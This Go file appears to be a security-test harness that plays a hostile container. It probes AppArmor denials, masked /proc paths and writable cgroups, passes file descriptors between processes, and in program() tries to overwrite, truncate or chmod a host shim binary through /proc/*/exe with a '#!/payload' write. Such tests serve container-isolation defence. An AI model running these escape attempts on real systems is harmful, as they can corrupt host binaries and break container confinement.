package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// attack does what a hostile container does, and returns the exit code.
func attack(args []string) int {
	switch args[0] {
	case "confined":
		confined()
	case "masks":
		masks(os.Args[2:])
	case "groups":
		groups()
	case "lend":
		lend(args[1])
	case "borrow":
		borrow(args[1])
	case "program":
		return program(args[1])
	}
	return 0
}

// open opens a file and closes it.
func open(path string, flags int) error {
	fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0o600)
	if err == nil {
		err = unix.Close(fd)
	}
	return err
}

// confined tells of the AppArmor profile, and of what such profiles deny.
func confined() {
	fmt.Print("profile: ", read("/proc/self/attr/current"))
	fmt.Println("write /tmp/forbidden:", open("/tmp/forbidden", unix.O_WRONLY|unix.O_CREAT))
	fmt.Println("read /tmp/forbidden:", open("/tmp/forbidden", unix.O_RDONLY))
	fmt.Println("write /tmp/allowed:", open("/tmp/allowed", unix.O_WRONLY|unix.O_CREAT))
	fmt.Println("write /proc/sysrq-trigger:", open("/proc/sysrq-trigger", unix.O_WRONLY))
	fmt.Println("read /proc/kcore:", open("/proc/kcore", unix.O_RDONLY))
	err := unix.Mount("tmpfs", "/tmp", "tmpfs", 0, "")
	fmt.Println("mount:", err)
	if err == nil {
		fmt.Println("unmount:", unix.Unmount("/tmp", 0))
	}
}

// masks tells what is at each path, and whether it can be written to. What can be is told of as it
// was opened: something else may lie there a moment later.
func masks(paths []string) {
	for _, p := range paths {
		var st unix.Stat_t
		var f unix.Statfs_t
		fd, write := unix.Open(p, unix.O_WRONLY|unix.O_NOCTTY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		var err error
		if write == nil {
			err = errors.Join(unix.Fstat(fd, &st), unix.Fstatfs(fd, &f), unix.Close(fd))
		} else {
			err = errors.Join(unix.Stat(p, &st), unix.Statfs(p, &f))
		}
		if err != nil {
			fmt.Printf("%s: %v\n", p, err)
			continue
		}
		fmt.Printf("%s: type %o number %d:%d of %x write %v\n", p, st.Mode&unix.S_IFMT, unix.Major(st.Rdev), unix.Minor(st.Rdev), f.Type, write)
	}
}

// groups tells which files of cgroups it can write to, and where it can make a cgroup.
func groups() {
	err := filepath.WalkDir("/sys/fs/cgroup", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return err
		case d.IsDir():
			if dir := path + "/made"; os.Mkdir(dir, 0o755) == nil {
				fmt.Println("made", dir, os.Remove(dir))
			}
		case open(path, unix.O_WRONLY) == nil:
			fmt.Println("opened", path)
		}
		return nil
	})
	fmt.Println("end:", err)
}

// program takes hold of the program file of each process that runs a pod shim's, tries to change
// it, and tells whether there was one and what it could do. Root can be any user here for a moment,
// such as the one of process 1.
func program(until string) int {
	seen, done := map[string]bool{}, map[string]bool{}
	for open(until, unix.O_RDONLY) != nil {
		entries, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, e := range entries {
			for _, user := range []int{0, 65535} {
				fd := as(user, e)
				if fd < 0 {
					continue
				}
				file := fmt.Sprintf("/proc/self/fd/%d", fd)
				if at, _ := os.Readlink(file); strings.Contains(at, "keeper") {
					if seen[strings.Fields(at)[0]] = true; os.WriteFile("/tmp/seen", nil, 0o600) != nil {
						panic("no /tmp")
					}
					if w, err := os.OpenFile(file, os.O_WRONLY, 0); err == nil {
						if _, err := w.WriteString("#!/payload"); err == nil {
							done["written"] = true
						}
						w.Close()
					}
					if os.Truncate(file, 0) == nil {
						done["truncated"] = true
					}
					if os.Chmod(file, 0) == nil {
						done["mode changed"] = true
					}
				}
				unix.Close(fd)
			}
		}
		time.Sleep(time.Microsecond)
	}
	fmt.Println(len(seen), "seen", seen, "done", done)
	return len(done)
}

// as opens a place as a user.
func as(user int, path string) int {
	unix.SetfsgidRetGid(user)
	unix.SetfsuidRetUid(user)
	fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
	unix.SetfsuidRetUid(0)
	unix.SetfsgidRetGid(0)
	if err != nil {
		return -1
	}
	return fd
}

// lend says a word, and gives its output to who waits at a socket.
func lend(path string) {
	fmt.Println("lent")
	conn, err := net.DialUnix("unix", nil, &net.UnixAddr{Name: path, Net: "unix"})
	if err == nil {
		_, _, err = conn.WriteMsgUnix([]byte("x"), unix.UnixRights(1), nil)
	}
	if err == nil {
		_, err = conn.Read(make([]byte, 1)) // until it has it
	}
	if err != nil {
		panic(err)
	}
}

// borrow writes to the output of whoever gives it, as fast as it can and as long as somebody
// reads.
func borrow(path string) {
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: path, Net: "unix"})
	if err != nil {
		panic(err)
	}
	conn, err := l.AcceptUnix()
	if err != nil {
		panic(err)
	}
	control := make([]byte, unix.CmsgSpace(4))
	if _, _, _, _, err = conn.ReadMsgUnix(make([]byte, 1), control); err != nil {
		panic(err)
	}
	messages, err := unix.ParseSocketControlMessage(control)
	if err != nil {
		panic(err)
	}
	fds, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		panic(err)
	}
	signal.Ignore(unix.SIGPIPE)
	if _, err := conn.Write([]byte("x")); err != nil {
		panic(err)
	}
	for range 4 {
		go func() {
			for text := bytes.Repeat([]byte("borrowed\n"), 1<<13); ; {
				if _, err := unix.Write(fds[0], text); err != nil {
					return
				}
			}
		}()
	}
	sleep()
}
